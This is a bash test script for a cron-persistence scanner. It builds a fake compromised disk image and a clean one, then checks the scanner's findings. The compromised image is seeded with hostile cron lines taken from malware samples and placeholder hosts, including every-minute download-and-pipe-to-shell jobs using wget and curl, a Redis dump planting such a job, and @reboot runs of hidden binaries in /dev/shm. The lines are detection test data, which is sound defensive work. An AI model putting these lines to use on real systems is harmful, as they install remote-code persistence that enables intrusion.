#!/bin/bash
# Cron persistence in a disk image (--root; unprivileged is fine).  The
# compromised image holds what real droppers write, taken as text from the
# samples in shared/material/scripts (never run): Kinsing's every-minute
# download-and-run line, the FreeDownloadManager backdoor's
# /etc/cron.d/collect running /var/tmp/crond, a Redis RDB dump written
# into the cron spool with a job line inside, and the Mirai sample's
# malformed crontab.  The clean image holds Debian's stock cron files,
# acme.sh's crontab, a health-check ping every minute and a /tmp clean-up:
# nothing at medium or above.  Hostile files (3 MiB crontab, binary
# garbage, a last line without newline, a link pointing out of the image,
# an unreadable spool as a user) are read within bounds or reported.
. "$(dirname "$0")/lib.sh"
# The sample lines, as text (tests/data/cron-samples.txt), checked against
# the samples themselves when shared/material sits beside the checkout.
SAMPLES=$TOP/tests/data/cron-samples.txt
sample() {  # FILE-PREFIX PATTERN: the first excerpt of that file matching
	grep -v '^#' "$SAMPLES" | awk -F'|' -v f="$1" 'index($1, f) == 1' |
		cut -d'|' -f2- | grep -m1 -e "$2"
}
S=$TOP/../shared/material/scripts
if [ -d "$S" ]; then
	while IFS='|' read -r file line; do
		case $file in '#'*|'') continue ;; esac
		src=$(ls "$S"/*/"$file" 2>/dev/null | head -1)
		[ -n "$src" ] || fail "sample $file is missing from $S"
		grep -qxF -- "$line" "$src" || fail "the excerpt of $file is no longer in it: $line"
	done <"$SAMPLES"
else
	say "note: no shared/material beside the checkout: excerpts not re-checked"
fi

stock_cron() {  # R: Debian 12's cron files
	local r=$1
	mkdir -p "$r/etc/cron.d" "$r/etc/cron.daily" "$r/etc/cron.hourly" \
		"$r/var/spool/cron/crontabs"
	cat >"$r/etc/crontab" <<'EOF'
# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# *  *  *  *  * user-name command to be executed
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6	* * 7	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6	1 * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
EOF
	cat >"$r/etc/cron.d/e2scrub_all" <<'EOF'
30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
EOF
	cat >"$r/etc/cron.d/php" <<'EOF'
09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi
EOF
	printf '#!/bin/sh\n# skip in favour of systemd timer\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/sbin/logrotate /etc/logrotate.conf\n' >"$r/etc/cron.daily/logrotate"
	printf '#!/bin/sh\ntest -x /usr/sbin/anacron || exit 0\nrandom_sleep() { sleep $(( $(od -N2 -tu2 -An /dev/urandom) %% 1800 )); }\n' >"$r/etc/cron.daily/apt-compat"
	chmod 0755 "$r/etc/cron.daily/"*
}

# ---- a compromised image ---------------------------------------------------
R=$T/bad
stock_cron "$R"
# Kinsing: LDR and the echoed line, as its install.sh has them
ldr=$(sample 2023.Kinsing 'LDR="wget' | sed -n 's/^LDR="\(wget[^"]*\)"$/\1/p')
kin=$(sample 2023.Kinsing 'spr.sh' | grep -o '\* \* \* \* \* \$LDR [^"]*')
[ -n "$ldr" ] && [ -n "$kin" ] || fail "test setup: no LDR or cron line for Kinsing"
KLINE=${kin/\$LDR/$ldr}
printf 'MAILTO=""\n%s\n' "$KLINE" >"$R/var/spool/cron/crontabs/root"
# FDM: echo '*/10 * * * * root '$BOTDIR/crond > $CF, BOTDIR=/var/tmp
# (the first botdir it tries is /var/tmp)
sample 2023.FreeDownloadManager '^botdir /var/tmp ||' >/dev/null ||
	fail "test setup: FDM's botdir line"
fdm=$(sample 2023.FreeDownloadManager 'BOTDIR/crond' | grep -o "'\*/10 \* \* \* \* root '\$BOTDIR/crond" | tr -d "'")
[ -n "$fdm" ] || fail "test setup: no cron line for FDM"
printf '%s\n' "${fdm/\$BOTDIR//var/tmp}" >"$R/etc/cron.d/collect"
# Redis: CONFIG SET dir /var/spool/cron; dbfilename root; SAVE
printf 'REDIS0009\xfa\tredis-ver\x055.0.7\xfa\nredis-bits\xc0@\xfe\x00\xfb\x01\x00\x00\x011@\n\n*/1 * * * * curl -fsSL http://198.51.100.7/b.sh | sh\n\n\xff\x8f\x1d\xb3' \
	>"$R/var/spool/cron/root"
sample 2024.Mirai__mirai.crontab '' >"$R/var/spool/cron/crontabs/nginx"
# hostile: 3 MiB, garbage, no final newline, a link out of the image
{ printf '*/2 * * * * cd /dev/shm && ./.x\n'; head -c 3145728 /dev/zero | tr '\0' '#'; } \
	>"$R/etc/cron.d/huge"
head -c 4096 /dev/urandom >"$R/etc/cron.d/garbage"
printf '@reboot root nohup /dev/shm/.k/kthreadd' >"$R/etc/cron.d/nonl"
mkdir -p "$T/outside"
printf '* * * * * root wget -q -O- http://203.0.113.9/outsider | sh\n' >"$T/outside/cron"
ln -s "../../../../../../../..$T/outside/cron" "$R/etc/cron.d/escape"

rm_json "$T/bad.json" --root "$R" --facts
[ "$RC" = 1 ] || fail "a compromised image exits $RC, expected 1"
grep -q outsider "$T/bad.json" && fail "rookmelder read the cron file outside the image"

per() {  # RULE FILE [LINE]: exactly one finding; F holds it
	local all n
	all=$(jq -c --arg r "$1" --arg f "$2" --arg l "${3:-}" \
		'[.findings[] | select(.rule.id == $r and .file.path == $f and
		  ($l == "" or (.evidence.line | tostring) == $l))]' "$T/bad.json")
	n=$(jq length <<<"$all")
	[ "$n" = 1 ] || { dump_findings "$T/bad.json" >&2; fail "$n $1 findings for $2${3:+:$3}, expected 1"; }
	F=$(jq -c '.[0]' <<<"$all")
	F_WHAT="$1 for $2${3:+:$3}"
}
per RM-PER-001 /var/spool/cron/crontabs/root 2
f_eq .severity critical
f_eq .confidence high
f_eq .rule.category persistence
f_eq .evidence.command "${KLINE#\* \* \* \* \* }"
f_eq .evidence.url http://195.3.146.118/spr.sh
f_eq .evidence.schedule '* * * * *'
f_eq .evidence.runs 'every 1 minute'
f_eq .evidence.user root
f_eq '.evidence.does | index("download") != null and index("pipe into an interpreter") != null' true
f_eq '.threat.technique.id | index("T1053.003") != null' true

per RM-PER-001 /etc/cron.d/collect 1
f_eq .severity high
f_eq .evidence.path /var/tmp/crond
f_eq .evidence.user root
f_eq .evidence.runs 'every 10 minutes'

per RM-PER-002 /var/spool/cron/root
f_eq .severity critical
f_eq '.message | contains("Redis")' true
f_eq '.evidence.jobs | length' 1
per RM-PER-001 /var/spool/cron/root
f_eq .severity critical
f_eq .evidence.url http://198.51.100.7/b.sh

per RM-PER-001 /etc/cron.d/huge 1
f_eq .severity high
f_eq .evidence.path /dev/shm
per RM-PER-001 /etc/cron.d/nonl 1
f_eq .severity high
f_eq .evidence.runs 'at boot'
f_eq .evidence.path /dev/shm/.k/kthreadd
per RM-PER-002 /etc/cron.d/garbage
f_eq .severity high

# the facts: every file, the truncated one said so, Mirai's broken line
cf() { jq -c --arg p "$1" '.facts.cron_files[] | select(.path == $p)' "$T/bad.json"; }
[ "$(cf /etc/cron.d/huge | jq .truncated)" = true ] || fail "the 3 MiB crontab is not marked truncated: $(cf /etc/cron.d/huge)"
[ "$(cf /var/spool/cron/crontabs/nginx | jq '.invalid_lines')" = 1 ] ||
	fail "Mirai's crontab: $(cf /var/spool/cron/crontabs/nginx)"
[ "$(cf /var/spool/cron/root | jq -r .content)" = redis ] || fail "the Redis dump: $(cf /var/spool/cron/root)"
[ "$(cf /etc/cron.d/escape | jq -r '.read_error // "read"')" != read ] ||
	fail "the link out of the image was read: $(cf /etc/cron.d/escape)"
# the stock files raise nothing
jq_true "$T/bad.json" '[.findings[] | select(.file.path // "" | test("^/etc/(crontab|cron.d/(e2scrub_all|php)|cron.daily/)"))] | length == 0' \
	"a finding for Debian's own cron files"

# ---- a clean image -------------------------------------------------------------
C=$T/clean
stock_cron "$C"
# acme.sh: echo "$random_minute $random_hour * * * $lesh --cron --home \"$LE_WORKING_DIR\" $_c_entry> /dev/null"
sample clean__acme.sh 'echo "$random_minute $random_hour \* \* \* $lesh --cron --home' >/dev/null ||
	fail "test setup: acme.sh's cron line"
{
	printf '38 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n'
	printf '* * * * * curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5a1f3e2c\n'
	printf '0 4 * * * find /tmp -type f -mtime +7 -delete\n'
	printf '*/5 * * * * /usr/bin/php /var/www/html/cron.php > /tmp/cron.log 2>&1\n'
} >"$C/var/spool/cron/crontabs/root"
chmod 0600 "$C/var/spool/cron/crontabs/root"
rm_json "$T/clean.json" --root "$C" --facts
jq_true "$T/clean.json" '[.findings[] | select(.severity != "info" and .severity != "low")] | length == 0' \
	"the clean image has findings: $(dump_findings "$T/clean.json")"
jq_true "$T/clean.json" '.facts.cron_jobs | length >= 10' "the clean image's jobs were not all read"
# acme.sh is recorded, at info
jq_true "$T/clean.json" '[.findings[] | select(.rule.id == "RM-PER-001" and .severity == "info")] | length == 1' \
	"acme.sh's line is not one info finding"

# ---- an unreadable spool (as a user) ---------------------------------------
if [ "$MYUID" -ne 0 ]; then
	chmod 000 "$C/var/spool/cron/crontabs"
	rm_json "$T/unread.json" --root "$C"
	chmod 755 "$C/var/spool/cron/crontabs"
	jq_true "$T/unread.json" '[.scan.skipped[] | select(.check == "persistence: cron")] | length == 1' \
		"an unreadable spool is not in scan.skipped: $(jq -c .scan.skipped "$T/unread.json")"
fi
finish
